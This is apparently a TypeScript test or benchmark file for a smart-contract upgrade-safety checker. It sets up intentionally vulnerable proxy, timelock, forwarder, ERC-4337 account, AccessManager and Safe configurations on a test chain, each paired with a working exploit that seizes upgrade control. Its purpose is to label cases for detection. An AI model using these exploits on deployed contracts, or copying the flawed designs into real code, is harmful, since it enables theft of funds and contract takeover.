/** Authorities, signatures, forwarders and accounts that answer as it suits them. */
import {
  concatHex,
  encodeAbiParameters,
  encodeFunctionData,
  type Hex,
  keccak256,
  pad,
  parseAbi,
  parseSignature,
  stringToHex,
  toHex,
  zeroAddress,
} from 'viem'
import { generatePrivateKey, type PrivateKeyAccount, privateKeyToAccount } from 'viem/accounts'
import { openZeppelin5 } from '../../evm/compile.ts'
import { assemble } from '../assemble.ts'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, codeOf, LOGIC_SLOT, NO_OWNER, system, TWO_DAYS } from '../chain.ts'
import { deploySafe, upgradeCall } from '../safes.ts'
import { controlledBy, part } from './lying-getters.ts'
import { NEW_EVM } from './second-writers.ts'

export type Draft = Omit<Case, 'truth' | 'by'> & Partial<Pick<Case, 'by'>>

export const timelocked =
  (name: string, ...args: readonly unknown[]) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock(), ...args))
const renounced =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, NO_OWNER))
/** Logic whose authority a timelock owns next to it. */
const authorized =
  (name: string, argsOf: (chain: Chain) => readonly unknown[] = () => []) =>
  async (chain: Chain): Promise<Built> => {
    const [deployer = zeroAddress] = chain.evm.accounts
    const address = await chain.uups('AuthLogic', deployer)
    await chain.send(address, 'setAuthority(address)', [await chain.deploy(name, ...argsOf(chain))])
    await chain.send(address, 'setOwner(address)', [await chain.timelock()])
    return system(address)
  }
export const upgradeTo = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeTo(address)', [code])
export const word = (value: Hex): Hex => pad(value, { size: 32 })
export const seize = ({ code }: Attack): Hex => callData('seize(address)', [code])

async function signed(account: PrivateKeyAccount, hash: Hex): Promise<readonly [number, Hex, Hex]> {
  const { r, s, yParity } = parseSignature(await account.sign({ hash }))
  return [27 + yParity, r, s]
}
const hashOf = (...values: readonly Hex[]): Hex =>
  keccak256(
    encodeAbiParameters(
      values.map(() => ({ type: 'address' })),
      values,
    ),
  )

const OPERATIONS = parseAbi([
  'struct Operation { address sender; bytes callData; bytes signature; }',
  'function handleOps(Operation[] operations)',
])
/** An account as in ERC-4337 that controls the labeled contract. */
const ownedByAccount =
  (name: string, more: (chain: Chain) => readonly unknown[] | Promise<readonly unknown[]> = () => []): Case['build'] =>
  async (chain) => {
    const entryPoint = await chain.deploy('EntryPoint')
    const account = await chain.deploy(name, entryPoint, await chain.timelock(), ...(await more(chain)))
    return controlledBy(chain, account, { entryPoint })
  }
const operate =
  (signatureOf: (attack: Attack, hash: Hex) => Promise<Hex>): Case['exploit'] =>
  async (attack, built) => {
    const data = upgradeCall(built.address, attack.code)
    const sender = part(built, 'controller')
    const call = callData('execute(address,uint256,bytes)', [part(built, 'admin'), 0n, data])
    const hash = keccak256(encodeAbiParameters([{ type: 'address' }, { type: 'bytes' }], [sender, call]))
    const operation = { sender, callData: call, signature: await signatureOf(attack, hash) }
    const input = encodeFunctionData({ abi: OPERATIONS, functionName: 'handleOps', args: [[operation]] })
    await attack.sendRaw(part(built, 'entryPoint'), input)
  }
/** Finds an account whose address has a property. */
export function accountWith(has: (address: Hex) => boolean): PrivateKeyAccount {
  for (;;) {
    const account = privateKeyToAccount(generatePrivateKey())
    if (has(account.address)) return account
  }
}
const PROPOSER_ROLE = keccak256(stringToHex('PROPOSER_ROLE'))
const PUBLIC_ROLE = (1n << 64n) - 1n
const UPGRADE = '0x4f1ef286'
const ZERO_WORD = toHex(0, { size: 32 })
/** An AccessManager that a timelock administers after a setting was made. */
const managed =
  (signature: string, argsOf: (address: Hex) => readonly unknown[]): Case['build'] =>
  async (chain) => {
    const [deployer = zeroAddress] = chain.evm.accounts
    const manager = await chain.deployArtifact(openZeppelin5('AccessManager'), deployer)
    const address = await chain.uups('ManagedLogic', manager)
    await chain.send(manager, signature, argsOf(address))
    await chain.send(manager, 'grantRole(uint64,address,uint32)', [0n, await chain.timelock(), 0])
    await chain.send(manager, 'renounceRole(uint64,address)', [0n, deployer])
    return system(address, { manager })
  }
const upgradeToAndCall = ({ send, code }: Attack, { address }: Built): Promise<void> =>
  send(address, 'upgradeToAndCall(address,bytes)', [code, '0x'])

/** A case of anyone who takes control, unless the draft says otherwise. */
export const weakCase = (draft: Draft): Case => ({ by: 'anyone', settings: NEW_EVM, ...draft, truth: WEAK })

const drafts: readonly Draft[] = [
  {
    name: 'the authority lets the transactions of one key pass, from any caller',
    cause: 'other guard',
    by: 'one key',
    build: authorized('OriginAuthority', (chain) => [chain.hidden().address]),
    exploit: upgradeTo,
  },
  {
    name: 'the authority lets a remainder of the gas left pass',
    cause: 'trial detector',
    build: authorized('GasAuthority'),
    exploit: async (attack, { address }) => {
      for (let gas = 500_000n; gas < 500_016n; gas += 1n)
        await attack.send(address, 'upgradeTo(address)', [attack.code], { gas }).catch(() => undefined)
    },
  },
  {
    name: 'the authority lets every fourth block pass',
    cause: 'trial detector',
    build: authorized('BlockAuthority'),
    exploit: async (attack, built) => {
      for (let n = 0; n < 4; n += 1) await upgradeTo(attack, built).catch(() => undefined)
    },
  },
  {
    name: 'the authority lets a gas price pass',
    cause: 'trial detector',
    build: authorized('PriceAuthority'),
    exploit: ({ send, code }, { address }) => send(address, 'upgradeTo(address)', [code], { gasPrice: 1_077n }),
  },
  {
    name: 'the authority lets contracts of one size pass',
    cause: 'other guard',
    build: authorized('SizeAuthority'),
    exploit: async ({ deployRuntime, sendRaw, code }, { address }) => {
      const calls = assemble(
        `CALLDATASIZE 0x00 0x00 CALLDATACOPY 0x00 0x00 CALLDATASIZE 0x00 0x00 ${address} GAS CALL STOP`,
      )
      const padded = concatHex([calls, toHex(0, { size: 77 - (calls.length - 2) / 2 })])
      await sendRaw(await deployRuntime(padded), callData('upgradeTo(address)', [code]))
    },
  },
  {
    name: 'the authority has a silent table',
    cause: 'other guard',
    by: 'one key',
    build: authorized('QuietAuthority', (chain) => [chain.hidden().address]),
    exploit: upgradeTo,
  },
  {
    name: 'the authority asks the caller',
    cause: 'other guard',
    build: authorized('AnswerAuthority'),
    exploit: async ({ deployRuntime, sendRaw, code }, { address }) => {
      // Answers 77 to empty input, and otherwise passes its input on.
      const source = `CALLDATASIZE @pass JUMPI 0x4d 0x00 MSTORE 0x20 0x00 RETURN
        :pass CALLDATASIZE 0x00 0x00 CALLDATACOPY 0x00 0x00 CALLDATASIZE 0x00 0x00 ${address} GAS CALL STOP`
      await sendRaw(await deployRuntime(assemble(source)), callData('upgradeTo(address)', [code]))
    },
  },
  {
    name: 'the registry of owners answers the origin at a gas price',
    cause: 'lying getter',
    build: async (chain) => {
      const registry = await chain.deploy('MoodyRegistry', await chain.timelock())
      return system(await chain.proxy(await chain.deploy('RegistryLogic', registry)))
    },
    exploit: ({ send, code }, { address }) => send(address, 'upgradeTo(address)', [code], { gasPrice: 1_077n }),
  },
  {
    name: 'the registry of owners answers one key from a block on',
    cause: 'lying getter',
    by: 'one key',
    build: async (chain) => {
      const registry = await chain.deploy('LateRegistry', await chain.timelock(), chain.hidden().address)
      return system(await chain.proxy(await chain.deploy('RegistryLogic', registry)))
    },
    exploit: async (attack, built) => {
      await attack.mine(1_001)
      await upgradeTo(attack, built)
    },
  },
  {
    name: 'the answer of a renounced owner is in memory before it is asked',
    cause: 'other guard',
    build: renounced('PrefilledAnswer'),
    exploit: ({ send, code }, { address }) =>
      send(address, 'upgradeSigned(address,address,bytes)', [zeroAddress, code, '0x']),
  },
  {
    name: 'any contract may enlist as a signer',
    cause: 'other guard',
    build: timelocked('ListedSigner'),
    exploit: async ({ deploy, send, code }, { address }) => {
      const signer = await deploy('YesSigner')
      await send(address, 'enlist(address)', [signer])
      await send(address, 'upgradeSigned(address,address,bytes)', [signer, code, '0x'])
    },
  },
  {
    name: 'the sender confirms its own signature in the guard',
    cause: 'other guard',
    build: timelocked('SenderSigns'),
    exploit: async ({ deploy, send, code }, { address }) =>
      send(await deploy('YesSigner'), 'upgrade(address,address)', [address, code]),
  },
  {
    name: 'the hash of a recovered signer is compared next to the owner',
    cause: 'other guard',
    by: 'one key',
    build: async (chain) => system(await chain.uups('DelegatedSigner', await chain.timelock(), chain.hidden().address)),
    exploit: async ({ account, send, code }, { address }) =>
      send(address, 'upgradeSigned(address,uint8,bytes32,bytes32)', [
        code,
        ...(await signed(account, hashOf(address, code))),
      ]),
  },
  {
    name: 'the sender of a call to itself is appended by the caller',
    cause: 'second writer',
    build: timelocked('SelfForwarder'),
    exploit: async ({ send, read, code }, { address }) => {
      const owner: Hex = `0x${(await read(address, 'owner()')).slice(-40)}`
      await send(address, 'run(bytes)', [concatHex([callData('upgradeTo(address)', [code]), owner])])
    },
  },
  {
    name: 'a deposit makes any account a trusted forwarder',
    cause: 'other guard',
    build: timelocked('ListedForwarder'),
    exploit: async ({ send, sendRaw, read, code }, { address }) => {
      const owner: Hex = `0x${(await read(address, 'owner()')).slice(-40)}`
      await send(address, 'join()', [], { value: 10n ** 9n })
      await sendRaw(address, concatHex([callData('upgradeTo(address)', [code]), owner]))
    },
  },
  {
    name: 'the forwarder accepts an invalid signature of the renounced owner',
    cause: 'other guard',
    build: async (chain) =>
      system(await chain.uups('ForwardedLogic', NO_OWNER, await chain.deploy('LaxForwarder')), {}),
    exploit: async ({ chain, send, code }, { address }) => {
      // The forwarder is an address in the code of the logic.
      const logic = `0x${(await chain.storage(address, LOGIC_SLOT)).slice(-40)}` as const
      const found = (await codeOf(chain, logic)).match(/73([0-9a-f]{40})|7f0{24}([0-9a-f]{40})/g) ?? []
      const data = callData('upgradeTo(address)', [code])
      for (const one of found)
        await send(`0x${one.slice(-40)}`, 'forward(address,address,bytes,uint8,bytes32,bytes32)', [
          zeroAddress,
          address,
          data,
          0,
          ZERO_WORD,
          ZERO_WORD,
        ]).catch(() => undefined)
    },
  },
  {
    name: 'the sender is at a place in calldata that calldata names',
    cause: 'other guard',
    build: timelocked('PlacedSender'),
    exploit: async ({ sendRaw, read, code }, { address }) => {
      const owner: Hex = `0x${(await read(address, 'owner()')).slice(-40)}`
      const input = [callData('upgradeTo(address)', [code]), ZERO_WORD, toHex(100, { size: 32 }), word(owner)]
      await sendRaw(address, concatHex(input))
    },
  },
  {
    name: 'the owner is an account that accepts every operation of its entry point',
    cause: 'lying getter',
    build: ownedByAccount('TrustingAccount'),
    exploit: operate(async () => '0x'),
  },
  {
    name: 'the owner is an account with a session key that is known by its hash',
    cause: 'lying getter',
    by: 'one key',
    build: ownedByAccount('SessionAccount', (chain) => [chain.hidden().address]),
    exploit: operate(async ({ account }, hash) =>
      encodeAbiParameters([{ type: 'uint8' }, { type: 'bytes32' }, { type: 'bytes32' }], await signed(account, hash)),
    ),
  },
  {
    name: 'the owner is an account with a plugin that was installed when it was created',
    cause: 'module',
    build: ownedByAccount('PluginAccount', async (chain) => [await chain.deploy('RelayPlugin')]),
    exploit: ({ sendRaw, code }, built) => {
      const data = callData('go(address,bytes)', [part(built, 'admin'), upgradeCall(built.address, code)])
      return sendRaw(part(built, 'controller'), concatHex(['0x12345678', data]))
    },
  },
  {
    name: 'the entry point of the owner is one key',
    cause: 'lying getter',
    by: 'one key',
    build: async (chain) =>
      controlledBy(chain, await chain.deploy('TrustingAccount', chain.hidden().address, await chain.timelock())),
    exploit: ({ send, code }, built) =>
      send(part(built, 'controller'), 'execute(address,uint256,bytes)', [
        part(built, 'admin'),
        0n,
        upgradeCall(built.address, code),
      ]),
  },
  {
    name: 'the proposer of the timelock relays calls of any account',
    cause: 'lying getter',
    build: async (chain) => {
      const relay = await chain.deploy('OpenRelay')
      const lock = await chain.controllers.timelock(TWO_DAYS, [relay, await chain.council()])
      return controlledBy(chain, lock.address, { relay })
    },
    exploit: async ({ send, wait, code }, built) => {
      const call = [part(built, 'admin'), 0n, upgradeCall(built.address, code), ZERO_WORD, ZERO_WORD]
      const lock = part(built, 'controller')
      const schedule = 'schedule(address,uint256,bytes,bytes32,bytes32,uint256)'
      const execute = 'execute(address,uint256,bytes,bytes32,bytes32)'
      await send(part(built, 'relay'), 'relay(address,bytes)', [lock, callData(schedule, [...call, TWO_DAYS])])
      await wait(Number(TWO_DAYS) + 1)
      await send(part(built, 'relay'), 'relay(address,bytes)', [lock, callData(execute, call)])
    },
  },
  {
    name: 'an AccessManager opens the upgrade function to the public role',
    cause: 'lying getter',
    build: managed('setTargetFunctionRole(address,bytes4[],uint64)', (address) => [address, [UPGRADE], PUBLIC_ROLE]),
    exploit: upgradeToAndCall,
  },
  {
    name: 'the public role of an AccessManager grants the role that upgrades',
    cause: 'lying getter',
    build: async (chain) => {
      const [deployer = zeroAddress] = chain.evm.accounts
      const manager = await chain.deployArtifact(openZeppelin5('AccessManager'), deployer)
      const address = await chain.uups('ManagedLogic', manager)
      await chain.send(manager, 'setTargetFunctionRole(address,bytes4[],uint64)', [address, [UPGRADE], 7n])
      await chain.send(manager, 'setRoleAdmin(uint64,uint64)', [7n, PUBLIC_ROLE])
      await chain.send(manager, 'grantRole(uint64,address,uint32)', [0n, await chain.timelock(), 0])
      await chain.send(manager, 'renounceRole(uint64,address)', [0n, deployer])
      return system(address, { manager })
    },
    exploit: async (attack, built) => {
      const args = [7n, attack.account.address, 0]
      await attack.send(part(built, 'manager'), 'grantRole(uint64,address,uint32)', args)
      await upgradeToAndCall(attack, built)
    },
  },
  {
    name: 'nested Safes of the same key own a Safe',
    cause: 'module',
    by: 'one key',
    build: async (chain) => {
      const key = chain.hidden().address
      const inner = [
        await deploySafe(chain, { owners: [key], threshold: 1 }),
        await deploySafe(chain, { owners: [key], threshold: 1 }),
      ] as const
      const safe = await deploySafe(chain, { owners: [...inner], threshold: 2 })
      return controlledBy(chain, safe, { first: inner[0], second: inner[1] })
    },
    exploit: async (attack, built) => {
      const safe = part(built, 'controller')
      const exec = 'execTransaction(address,uint256,bytes,uint8,uint256,uint256,uint256,address,address,bytes)'
      const of = (at: Hex): Hex => concatHex([word(at), ZERO_WORD, '0x01'])
      const run = (at: Hex, to: Hex, data: Hex, signatures: Hex): Promise<void> =>
        attack.send(at, exec, [to, 0n, data, 0, 0n, 0n, 0n, zeroAddress, zeroAddress, signatures])
      const data = upgradeCall(built.address, attack.code)
      const hashing = 'getTransactionHash(address,uint256,bytes,uint8,uint256,uint256,uint256,address,address,uint256)'
      const hash = await attack.read(safe, hashing, [
        part(built, 'admin'),
        0n,
        data,
        0,
        0n,
        0n,
        0n,
        zeroAddress,
        zeroAddress,
        0n,
      ])
      const both = [part(built, 'first'), part(built, 'second')].sort((a, b) => (BigInt(a) < BigInt(b) ? -1 : 1))
      for (const one of both) await run(one, safe, callData('approveHash(bytes32)', [hash]), of(attack.account.address))
      await run(safe, part(built, 'admin'), data, concatHex(both.map(of)))
    },
  },
  {
    name: 'the administrator of the timelock relays calls of any account',
    cause: 'lying getter',
    build: async (chain) => {
      const relay = await chain.deploy('OpenRelay')
      const council = await chain.council()
      const lock = await chain.controllers.timelock(TWO_DAYS, [council], [zeroAddress], relay)
      return controlledBy(chain, lock.address, { relay })
    },
    exploit: async ({ account, send, wait, code }, built) => {
      const call = [part(built, 'admin'), 0n, upgradeCall(built.address, code), ZERO_WORD, ZERO_WORD]
      const lock = part(built, 'controller')
      const grant = callData('grantRole(bytes32,address)', [PROPOSER_ROLE, account.address])
      await send(part(built, 'relay'), 'relay(address,bytes)', [lock, grant])
      await send(lock, 'schedule(address,uint256,bytes,bytes32,bytes32,uint256)', [...call, TWO_DAYS])
      await wait(Number(TWO_DAYS) + 1)
      await send(lock, 'execute(address,uint256,bytes,bytes32,bytes32)', call)
    },
  },
]

export const answers: readonly Case[] = drafts.map(weakCase)
